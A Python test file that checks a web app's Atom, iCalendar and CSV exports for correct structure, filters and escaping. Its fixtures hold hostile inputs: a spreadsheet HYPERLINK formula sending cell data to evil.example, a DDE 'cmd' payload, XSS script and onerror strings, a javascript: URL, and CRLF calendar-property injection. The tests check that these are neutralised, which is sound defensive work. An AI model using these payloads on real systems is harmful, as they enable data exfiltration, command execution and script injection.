"""Atom, iCalendar and CSV views of a search: valid structure, filters, and inert hostile text."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta

import icalendar
import pytest
from fastapi.testclient import TestClient

from exportwatch.model import Document, Kind, Venue
from exportwatch.search.sync import sync_outbox
from exportwatch.services import Services
from exportwatch.web import create_app
from exportwatch.web.feeds import CSV_COLUMNS, guard_cell

ATOM = "{http://www.w3.org/2005/Atom}"
TODAY = date.today()
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SCRIPT_TITLE = '<script>alert("x")</script> & <b>Fair</b>'
CRLF_NAME = "Hall 1\r\nATTENDEE:mailto:evil@example.org\rX-EVIL:1"


def _documents() -> list[Document]:
    when = datetime(2026, 1, 1, tzinfo=UTC)
    return [
        Document(
            id="dairy-fair",
            kind=Kind.EVENT,
            title=SCRIPT_TITLE,
            summary="Dairy <img src=x onerror=alert(1)> fair",
            url="javascript:alert(1)",
            source_id="fairs",
            updated_at=when + timedelta(days=3),
            starts_on=TODAY + timedelta(days=10),
            ends_on=TODAY + timedelta(days=12),
            venue=Venue(name=CRLF_NAME, city="Köln", country="DE"),
            countries=["DE"],
            sectors=["food.dairy"],
        ),
        Document(
            id="formula-fair",
            kind=Kind.EVENT,
            title=HOSTILE_TITLE,
            url="https://fairs.example/formula",
            source_id="fairs",
            updated_at=when + timedelta(days=2),
            starts_on=TODAY + timedelta(days=20),
            venue=Venue(name="+cmd|' /C calc'!A0", city="@SUM(1+1)", country="FR"),
            countries=["FR"],
            sectors=["machinery"],
        ),
        Document(
            id="past-fair",
            kind=Kind.EVENT,
            title="-2+3 past fair",
            url="https://fairs.example/past",
            source_id="fairs",
            updated_at=when + timedelta(days=1),
            starts_on=TODAY - timedelta(days=30),
            ends_on=TODAY - timedelta(days=28),
            countries=["DE"],
        ),
        Document(
            id="export-credit",
            kind=Kind.FINANCE,
            title="\tExport credit\rguarantee",
            url="https://finance.example/credit",
            source_id="bank",
            updated_at=when,
            deadline=TODAY + timedelta(days=40),
            countries=["DE"],
            sectors=["food"],
        ),
    ]


@pytest.fixture
def client(services: Services) -> Iterator[TestClient]:
    services.store.save_documents(_documents())
    sync_outbox(services.store, services.index)
    with TestClient(create_app(services)) as test_client:
        yield test_client


def _atom(client: TestClient, **params: str) -> ET.Element:
    response = client.get("/feeds/search.atom", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/atom+xml; charset=utf-8"
    return ET.fromstring(response.content)


def test_atom_feed_has_the_required_structure_newest_first(client: TestClient) -> None:
    feed = _atom(client, market="DE")
    assert feed.tag == f"{ATOM}feed"
    assert feed.findtext(f"{ATOM}id") == "http://127.0.0.1:8000/feeds/search.atom?market=DE"
    self_link = feed.find(f"{ATOM}link[@rel='self']")
    assert self_link is not None
    assert self_link.get("href") == "http://127.0.0.1:8000/feeds/search.atom?market=DE"
    entries = feed.findall(f"{ATOM}entry")
    ids = [entry.findtext(f"{ATOM}id") for entry in entries]
    assert ids == [
        "tag:127.0.0.1,2026:document/dairy-fair",
        "tag:127.0.0.1,2026:document/past-fair",
        "tag:127.0.0.1,2026:document/export-credit",
    ]
    updated = [entry.findtext(f"{ATOM}updated") or "" for entry in entries]
    assert updated == sorted(updated, reverse=True)
    assert feed.findtext(f"{ATOM}updated") == updated[0]
    for entry in entries:
        assert entry.findtext(f"{ATOM}title")
        assert entry.find(f"{ATOM}link[@rel='alternate']") is not None
        assert entry.findtext(f"{ATOM}author/{ATOM}name") in {"fairs", "bank"}


def test_atom_entry_keeps_hostile_text_as_text_and_drops_script_links(
    client: TestClient,
) -> None:
    raw = client.get("/feeds/search.atom", params={"q": "dairy"}).content
    assert b"<script" not in raw
    assert b"<img" not in raw
    (entry,) = ET.fromstring(raw).findall(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == SCRIPT_TITLE
    assert entry.findtext(f"{ATOM}summary") == "Dairy <img src=x onerror=alert(1)> fair"
    link = entry.find(f"{ATOM}link")
    assert link is not None
    assert link.get("href") == "http://127.0.0.1:8000/api/documents/dairy-fair"
    category = entry.find(f"{ATOM}category")
    assert category is not None
    assert category.get("term") == "food.dairy"
    assert category.get("label")


def test_atom_feed_holds_at_most_100_entries(services: Services, client: TestClient) -> None:
    services.store.save_documents(
        Document(id=f"bulk-{n:03}", kind=Kind.REGULATION, title="Rule", url="u", source_id="s")
        for n in range(120)
    )
    sync_outbox(services.store, services.index)
    feed = _atom(client)
    assert len(feed.findall(f"{ATOM}entry")) == 100


def _calendar(client: TestClient, **params: str) -> icalendar.Calendar:
    response = client.get("/feeds/events.ics", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/calendar; charset=utf-8"
    return icalendar.Calendar.from_ical(response.content)


def test_calendar_lists_upcoming_events_with_exclusive_end_dates(client: TestClient) -> None:
    events = {str(e["uid"]): e for e in _calendar(client).walk("VEVENT")}
    assert set(events) == {"dairy-fair@127.0.0.1", "formula-fair@127.0.0.1"}
    dairy = events["dairy-fair@127.0.0.1"]
    assert dairy.decoded("dtstart") == TODAY + timedelta(days=10)
    assert dairy.decoded("dtend") == TODAY + timedelta(days=13)
    single_day = events["formula-fair@127.0.0.1"]
    assert single_day.decoded("dtend") == TODAY + timedelta(days=21)
    assert str(single_day["url"]) == "https://fairs.example/formula"
    assert "https://fairs.example/formula" in str(single_day["description"])


def test_calendar_includes_past_events_when_asked_and_ignores_other_kinds(
    client: TestClient,
) -> None:
    uids = {
        str(e["uid"]) for e in _calendar(client, upcoming="false", kind="finance").walk("VEVENT")
    }
    assert "past-fair@127.0.0.1" in uids
    assert "export-credit@127.0.0.1" not in uids


def test_calendar_escapes_line_breaks_so_no_property_can_be_injected(
    client: TestClient,
) -> None:
    raw = client.get("/feeds/events.ics", params={"q": "dairy"}).content
    assert b"\r\nATTENDEE" not in raw
    assert b"\r\nX-EVIL" not in raw
    (event,) = icalendar.Calendar.from_ical(raw).walk("VEVENT")
    assert "ATTENDEE" not in event
    assert "X-EVIL" not in event
    assert str(event["summary"]) == SCRIPT_TITLE
    assert "ATTENDEE:mailto:evil@example.org" in str(event["location"])


def _csv(client: TestClient, **params: str) -> list[dict[str, str]]:
    response = client.get("/export/search.csv", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="exportwatch-search-')
    assert disposition.endswith('.csv"')
    assert response.content.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_csv_cells_that_start_a_formula_are_quoted(client: TestClient) -> None:
    rows = {row["url"]: row for row in _csv(client)}
    formula = rows["https://fairs.example/formula"]
    assert formula["title"] == "'" + HOSTILE_TITLE
    assert formula["city"] == "'@SUM(1+1)"
    assert rows["https://fairs.example/past"]["title"] == "'-2+3 past fair"
    assert rows["https://finance.example/credit"]["title"] == "'\tExport credit\rguarantee"
    dairy = rows["javascript:alert(1)"]
    assert dairy["title"] == SCRIPT_TITLE
    assert dairy["city"] == "Köln"
    assert dairy["sectors"] == "food.dairy"
    assert dairy["ends_on"] == (TODAY + timedelta(days=12)).isoformat()


def test_filters_narrow_every_view(client: TestClient) -> None:
    assert [row["url"] for row in _csv(client, sector="food.dairy")] == ["javascript:alert(1)"]
    kinds = {row["kind"] for row in _csv(client, kind="finance,regulation")}
    assert kinds == {"finance"}
    feed = _atom(client, sector="machinery")
    assert len(feed.findall(f"{ATOM}entry")) == 1
    calendar = _calendar(client, market="FR")
    assert [str(e["uid"]) for e in calendar.walk("VEVENT")] == ["formula-fair@127.0.0.1"]


def test_csv_pages_through_more_than_one_index_page(services: Services, client: TestClient) -> None:
    services.store.save_documents(
        Document(id=f"bulk-{n:03}", kind=Kind.REGULATION, title="Rule", url="u", source_id="s")
        for n in range(250)
    )
    sync_outbox(services.store, services.index)
    assert len(_csv(client)) == 254


@pytest.mark.parametrize("path", ["/feeds/search.atom", "/feeds/events.ics", "/export/search.csv"])
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"sector": "no-such-sector"}, "sector"),
        ({"market": "XX"}, "market"),
        ({"from": "tomorrow"}, "from"),
        ({"kind": "party"}, "kind"),
        ({"sort": "random"}, "sort"),
        ({"upcoming": "maybe"}, "upcoming"),
    ],
)
def test_bad_parameters_give_422_naming_the_field(
    client: TestClient, path: str, params: dict[str, str], field: str
) -> None:
    response = client.get(path, params=params)
    assert response.status_code == 422
    body = response.json()
    assert body["field"] == field
    assert body["message"]


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Fair = fun", "Fair = fun"),
        ("", ""),
    ],
)
def test_guard_cell_prefixes_formula_starts_only(cell: str, guarded: str) -> None:
    assert guard_cell(cell) == guarded
